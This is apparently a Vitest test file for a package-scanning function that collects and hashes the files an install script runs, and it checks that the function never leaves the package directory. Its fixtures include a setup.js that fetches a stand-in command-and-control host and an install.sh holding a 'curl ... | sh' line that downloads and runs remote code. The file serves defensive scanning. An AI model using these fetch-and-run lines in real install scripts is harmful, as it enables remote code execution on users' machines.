import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { filesRun } from './script-files';

const root = mkdtempSync(join(tmpdir(), 'lg-files-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
const pkg = join(root, 'pkg');
mkdirSync(join(pkg, 'lib'), { recursive: true });
writeFileSync(join(pkg, 'setup.js'), "fetch('https://c2.example.test/x')");
writeFileSync(join(pkg, 'lib', 'install.sh'), 'curl http://198.51.100.9/p | sh');
writeFileSync(join(root, 'secret.txt'), 'outside the package');
symlinkSync(join(root, 'secret.txt'), join(pkg, 'link.js'));
execFileSync('mkfifo', [join(pkg, 'pipe.js')]);

describe('filesRun: the package files an install script runs', () => {
  it('reads the files named by the commands, with their hash', () => {
    const files = filesRun(pkg, ['node setup.js && sh "./lib/install.sh" --quiet', 'node setup.js']);
    expect(files.map((f) => f.path)).toEqual(['setup.js', 'lib/install.sh']);
    expect(files[0]?.text).toContain('c2.example.test');
    expect(files[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('never leaves the package, follows no symlink and does not block on a FIFO', () => {
    expect(filesRun(pkg, ['node ../secret.txt', `node ${join(root, 'secret.txt')}`, 'node link.js', 'node pipe.js'])).toEqual([]);
  });
});
